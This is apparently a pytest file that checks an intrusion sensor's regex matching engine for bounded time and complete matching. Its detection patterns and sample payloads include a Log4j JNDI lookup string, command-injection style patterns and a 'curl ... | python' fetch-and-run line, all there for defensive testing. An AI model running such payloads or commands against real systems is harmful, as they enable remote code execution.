"""Matching takes bounded time: no payload stalls it, and nothing is missed."""

from __future__ import annotations

import random
import time
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import hyperscan
import numpy as np
import pytest

from sensor.model import Rule
from sensor.native import hyperscan_complaint
from sensor.rules.engine import budget, scan, spans
from sensor.rules.engine.expression import expression
from sensor.rules.engine.matcher import Matcher
from sensor.rules.engine.scan import SLICE
from sensor.rules.files.load import load_rules
from sensor.rules.regex.tree import RegexError
from tests.rules.expressions import random_expression
from tests.rules.samples import payloads_of

REFERENCE = Path(__file__).parents[3] / "shared" / "reference" / "fp-patterns"
LARGEST = 65_535
BLANK = b"\r\n\r\n"

STALLING = [
    r"GET [^\r\n]+\?.*?=.*?(evaluate|run_shell|launch)(\(|%28)",
    r"POST [\s\S]*?\r\n\r\n[\s\S]*?\?.*?=.*?(evaluate|run_shell|launch)(\(|%28)",
    r"\x06[\x01-\x09]*\x06[\x01-\x09]?.*\x06[\x01-\x04][\x01\x03].*\x06[\x01-\x09]?[\x01\x04]",
    r"\${((\${(:|lower|upper):)*[-\{\}jndi]+)+:",
    r"(x+x+)+y",
    r"(a|aa)+$",
    r"(\w+\s?)+:$",
    r"(.*)(.*)(.*)(.*)(.*)[^a]{3}zq",
    r"(a|b)*a(a|b){12}c",
    r"([ab]*c){10}[ab]*d",
    r"a[^\n]{0,400}b[^\n]{0,50}(c)",
    r"(?:.{0,200}a){3}(b)c\b",
    r"(foo|bar|a.*b.*c|d.*e.*f|g.*h.*i|j.*k.*l){3}z",
]
"""Expressions known to make backtracking engines stall, and expressions with large automata."""

FILLINGS = [
    b"a",
    b"x",
    b"ab",
    b"abc",
    b"abbbaaaa",
    b"\x06",
    b"\x06\x01\x03z",
    b"j",
    b"${",
    b"?=evaluate",
    b"select ",
    b"../",
]
FRAMES = [
    (b"", b""),
    (b"GET /?x=", b" evaluate( HTTP/1.1" + BLANK),
    (b"POST / HTTP/1.1" + BLANK, b"?=launch%28"),
    (b"GET /${", b":ldap://x}"),
    (b"HTTP/1.1 200 OK\r\nServer: ", BLANK + b"abcd"),
]


def rules(*regexes: str) -> list[Rule]:
    """Return rules with these regexes, numbered from 1."""
    return [Rule(number, "threat", "Type", "Name", regex) for number, regex in enumerate(regexes, start=1)]


def payloads(size: int) -> list[bytes]:
    """Return payloads of this size, filled with texts that are hard for the expressions."""
    return [
        head + (filling * size)[: size - len(head) - len(tail)] + tail
        for head, tail in FRAMES
        for filling in FILLINGS
    ]


def cost_ms(matcher: Matcher, payload: bytes) -> float:
    """Return the CPU time of matching a payload in a worker, the best of three runs."""
    costs = []
    batch = payloads_of([(payload, 6, 80, 5000)], matcher.http)
    for _ in range(3):
        start_ns = time.thread_time_ns()
        matcher.matches(*batch)
        costs.append(time.thread_time_ns() - start_ns)
    return min(costs) / 1e6


def check_cost(matcher: Matcher) -> None:
    """Fail if a payload takes far too long.

    The limit promised is 1.5 ms; `sensor bench match` measures how much of it is used. This test must also
    pass on a slow and busy machine. Without the bounds, these payloads take seconds.
    """
    costs = {payload: cost_ms(matcher, payload) for size in (1_400, LARGEST) for payload in payloads(size)}
    slowest = max(costs, key=lambda payload: costs[payload])
    assert costs[slowest] < 50, slowest[:80]


@pytest.mark.parametrize("regex", STALLING)
def test_no_payload_stalls_a_rule(regex: str) -> None:
    """One rule and one packet have a bounded cost, whatever they contain."""
    check_cost(Matcher(rules(regex)))


def test_no_payload_stalls_many_rules() -> None:
    """All of these rules together cost no more than the budget allows."""
    check_cost(Matcher(rules(*STALLING)))


@pytest.mark.skipif(not REFERENCE.is_dir(), reason="ly_probe's rules are not on this machine")
def test_no_payload_stalls_ly_probes_rules() -> None:
    """The rules that stall ly_probe itself do not stall here."""
    check_cost(Matcher(load_rules(REFERENCE)))


def test_log4j_after_many_letters() -> None:
    """A lookup after 300 letters, for which backtracking engines reach their limit, is found in full."""
    payload = b"GET /${" + b"j" * 300 + b"ndi:ldap://x} HTTP/1.1" + BLANK
    [match] = Matcher(rules(r"\${((\${(:|lower|upper):)*[-\{\}jndi]+)+:")).match(payload, 6, 80, 5000)
    assert payload[match.start : match.end] == b"j" * 300 + b"ndi"


@pytest.mark.parametrize("padding", [0, SLICE - 4, SLICE, 3 * SLICE - 2, LARGEST - 20])
def test_long_payloads_are_searched_completely(padding: int) -> None:
    """A match is found at any offset, also across the slices of a long payload."""
    payload = b"." * padding + b"needle=(42)" + b"." * (LARGEST - 11 - padding)
    [match] = Matcher(rules(r"needle=\((\d+)\)")).match(payload, 6, 80, 5000)
    assert (match.start, match.end, match.version) == (padding + 8, padding + 10, "42")


def test_a_spent_budget_ends_the_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    """Matches found before the cut are kept, the rest is not searched, and the cut is counted."""
    monkeypatch.setattr(budget, "PAYLOAD_NS", 0)
    matcher = Matcher(rules("early", "late"))
    found = matcher.match(b"early".ljust(3 * SLICE) + b"late", 6, 80, 5000)
    assert ([match.rule.rule_id for match in found], matcher.cut) == ([1], 1)


def test_the_first_scan_is_never_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever the budget, a payload that fits in an Ethernet frame is searched once."""
    monkeypatch.setattr(budget, "PAYLOAD_NS", 0)
    matcher = Matcher(rules("early", "late"))
    found = matcher.match(b"early".ljust(SLICE - 4) + b"late", 6, 80, 5000)
    assert ([match.rule.rule_id for match in found], matcher.cut) == ([1, 2], 0)


def test_a_short_payload_is_cut_between_scans(monkeypatch: pytest.MonkeyPatch) -> None:
    """Decoded text is not searched if searching the text as it is has spent the budget."""
    rule = Rule(1, "threat", "Type", "Name", "needle", is_http=True, decode="url")
    raw, decoded = (b"GET /" + b"." * 1400 + text + b" HTTP/1.1" + BLANK for text in (b"needle", b"n%65edle"))
    for budget_ns, expected in ((10**9, ([1, 1], 0)), (0, ([], 2))):
        monkeypatch.setattr(budget, "PAYLOAD_NS", budget_ns)
        matcher = Matcher([rule])
        found = [match.rule.rule_id for text in (raw, decoded) for match in matcher.match(text, 6, 80, 5000)]
        assert (found, matcher.cut) == expected


def test_a_few_slow_payloads_are_searched_completely(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any payload may be slow once, for instance while caches are cold; only those of a flood are cut."""
    for name, value_ns in (("SHORT_NS", 0), ("PAYLOAD_NS", 400_000), ("EXTRA_NS", 400_000)):
        monkeypatch.setattr(budget, name, value_ns)
    matcher = Matcher([replace(rule, is_http=True, decode="url") for rule in rules(*STALLING)])
    payload = b"GET /?%2525=" + b"abbbaaaa" * 170 + b" HTTP/1.1" + BLANK
    batch = payloads_of([(payload, 6, 80, 5000)] * 2000, matcher.http)
    incomplete = matcher.matches(*batch).incomplete
    assert not incomplete[:50].any()
    assert np.count_nonzero(incomplete) > 1000


def test_a_match_too_costly_to_locate_is_still_reported() -> None:
    """If the exact span would cost too much, the match names the rule, and says that it is unknown."""
    filler = b"ab" * (LARGEST // 2)
    [match] = Matcher(rules(r"(?:a.{0,100}){5}zz(c)?.*q")).match(filler + b"zzc----q", 6, 80, 5000)
    assert match[1:] == (None, None, None)


EDGES = {
    "plain": ({}, b"", 0, b""),
    "total": ({"is_http": True}, b"GET /", 5, b" HTTP/1.1" + BLANK),
    "head": ({"is_http": True, "part": "head"}, b"GET /", 5, b" HTTP/1.1" + BLANK),
    "body": ({"is_http": True, "part": "body"}, b"POST / HTTP/1.1" + BLANK, 0, b""),
    "decoded": (
        {"is_http": True, "part": "body", "decode": "url"},
        b"POST / HTTP/1.1" + BLANK + b"%2e",
        1,
        b"",
    ),
    "decoded head": ({"is_http": True, "part": "head", "decode": "url"}, b"GET /%252e", 6, b"x" + BLANK),
}
"""By part: the fields of a rule, what stands before the text, its size in the part, and what stands after."""
AT_EDGES = [r"abc$", r"abc\z", r"abc(?![a-z])", r"abc\b", r"(?m)abc$", r"abc(?=\W|$)"]


@pytest.mark.parametrize("engine", ["Hyperscan", "RE2"])
@pytest.mark.parametrize("part", EDGES)
def test_a_cut_search_invents_nothing(part: str, engine: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Wherever a search is broken off, the end of what was seen is not the end of the text.

    In the payload, "abc" ends at the edges of slices, and letters follow. Only the last rule matches.
    """
    fields, before, size, after = EDGES[part]
    if engine == "RE2":
        monkeypatch.setattr(scan, "_compile", lambda _mode, _trees: None)
        monkeypatch.setattr(spans, "WORK", 20_000)
    matcher = Matcher([replace(rule, **fields) for rule in rules(*AT_EDGES, "tail")])  # type: ignore[arg-type]
    text = b"".join((b"." * (SLICE - 3 - size) + b"abc", (b"xyz" + b"." * (SLICE - 6) + b"abc") * 5))
    payload = before + text + b"xyz tail" + after
    complete = 0
    for budget_ns in (*range(-1, 400_000, 2_000), 10**12):
        monkeypatch.setattr(budget, "PAYLOAD_NS", budget_ns)
        matches = matcher.matches(*payloads_of([(payload, 6, 80, 5000)], matcher.http))
        found = [matcher.rules[rule].regex for rule in matches.rule.tolist()]
        assert found in ([], ["tail"])
        assert found or matches.incomplete.all()
        complete += not matches.incomplete.all()
    assert complete


@pytest.mark.parametrize(
    ("regex", "text"),
    [
        (r"(?s)curl.*\|\s*python", b"curl http://vader:8080/ 2>&1 | python"),
        (r"(?s)curl.*\|\s*python", b"curl http://xxxx:8000/ 2>&1 | python"),
        ("ab*[b-]", b" " * 15 + b"ab"),
        ("ab*[b-]", b" _a\nCcbaC acdCCcC ab"),
        (r"[\]-]a[^]B-D\n]{2}|ab", b"         c1_B1cb  b ab"),
        (r"\.wr=nl:g.*?\.g$", b"\r\ngytj.x=vyohv jdqdxwukdaf.wR=Nl:g\x8cAb7rLuw\\N)1y,90wL.G"),
    ],
)
def test_the_scanning_library_finds_these_matches(regex: str, text: bytes) -> None:
    """Vectorscan 5.4.12, which newer wheels of hyperscan contain, misses them."""
    assert Matcher(rules(regex)).match(text, 6, 80, 5000)


def test_small_expressions_that_hyperscan_can_read_are_compiled() -> None:
    """Checking rules relies on it, and only has them read; what cannot be read is described."""
    rng, small = random.Random(7), 0
    for _ in range(400):
        with suppress(RegexError):
            tree = expression(random_expression(rng)).tree
            small += tree.extent.states <= scan._SURELY_COMPILED
            assert scan._compile(hyperscan.HS_MODE_STREAM, [(0, tree)]) is not None
    assert small > 200
    assert hyperscan_complaint(b"a{2", 0) is None
    assert "parenthes" in (hyperscan_complaint(b"(a", 0) or "")
